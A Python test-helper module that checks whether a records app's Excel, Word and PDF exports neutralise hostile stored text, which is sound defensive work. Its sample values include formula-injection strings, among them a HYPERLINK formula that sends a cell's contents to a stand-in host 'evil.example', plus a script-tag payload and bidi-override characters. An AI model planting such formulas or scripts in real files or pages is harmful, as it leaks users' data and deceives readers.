"""Text as a careless paste or an attacker leaves it in the database, and the exported files read back.

Each value is stored straight into its row (``QuerySet.update``), past the forms and models that
clean text at the door, as older rows or an admin's script may hold it. ``Hostile.printed`` is what
every file must print instead: the characters a file cannot carry (bell, backspace, escape, bidi
overrides) gone, the rest — a formula-looking start, markup — as the words they are.
"""

import io
from dataclasses import dataclass

from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader

UNPRINTABLE = "\x07\x08\x1b\x0b\x0c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
FORMULA_STARTS = ("=", "+", "-", "@")


@dataclass(frozen=True)
class Hostile:
    stored: str
    printed: str


NAME = Hostile("=1+2\x07 Nguyễn\x08 Văn\x1b[31m Hùng\u202e", "=1+2 Nguyễn Văn[31m Hùng")
POSITION = Hostile("-2+3\x1b Phó\u2066 Chủ tịch UBND xã\u2069", "-2+3 Phó Chủ tịch UBND xã")
UNIT_NAME = Hostile("Xã Hạ Hòa\x07\u202e", "Xã Hạ Hòa")
LIST_TITLE = Hostile('=HYPERLINK("http://evil.example/?q="&A2,"Bấm")\x07 Danh sách\u202e năm 2026',
                     '=HYPERLINK("http://evil.example/?q="&A2,"Bấm") Danh sách năm 2026')
SUMMARY = Hostile("@SUM(1+1)\x07 Hoàn thành\u2066 xuất sắc nhiệm vụ <script>alert('x')</script>\x08.",
                  "@SUM(1+1) Hoàn thành xuất sắc nhiệm vụ <script>alert('x')</script>.")
HOUSEHOLD = Hostile("+Hộ ông Nguyễn Văn Ba\x1b, thôn 3\u202e", "+Hộ ông Nguyễn Văn Ba, thôn 3")
INITIATIVE = Hostile('=HYPERLINK("http://evil.example","Sáng kiến")\x07 số hóa\u202e',
                     '=HYPERLINK("http://evil.example","Sáng kiến") số hóa')
PLAIN_TEXT = Hostile("Tạo khí thế\x07 thi đua\u202e <b>sôi nổi</b>\x1b.", "Tạo khí thế thi đua <b>sôi nổi</b>.")


def squash(text: str) -> str:
    """Text without any white space: PDF lines break where the column does, not where the text did."""
    return "".join(text.split())


def workbook_cells(data: bytes) -> list:
    """Every filled cell of every sheet of the workbook ``data``, opened as a clerk's Excel would."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def docx_texts(data: bytes) -> list[str]:
    """Every text of the Word file ``data``: its paragraphs, table cells and title."""
    document = Document(io.BytesIO(data))
    texts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            texts += [cell.text for cell in row.cells]
    return texts + [document.core_properties.title or ""]


def pdf_text(data: bytes) -> str:
    return " ".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(data)).pages)


def assert_workbook_safe(data: bytes, *printed: Hostile) -> list:
    """The workbook opens; no cell is a formula or holds what a file cannot carry; each text reads as printed.

    Returns the cells, for more checks.
    """
    cells = workbook_cells(data)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str)
               and cell.value.startswith(FORMULA_STARTS))
    assert not [text for text in texts if any(char in text for char in UNPRINTABLE)]
    joined = squash("\n".join(texts))
    for value in printed:
        assert squash(value.printed) in joined, value.printed[:100]
    return cells


def assert_docx_readable(data: bytes, *printed: Hostile) -> None:
    texts = docx_texts(data)
    assert not [text for text in texts if any(char in text for char in UNPRINTABLE)]
    joined = squash("\n".join(texts))
    for value in printed:
        assert squash(value.printed) in joined, value.printed[:100]


def assert_pdf_readable(data: bytes, *printed: Hostile) -> None:
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    assert not any(char in text for char in UNPRINTABLE)
    joined = squash(text)
    for value in printed:
        assert squash(value.printed) in joined, value.printed[:100]
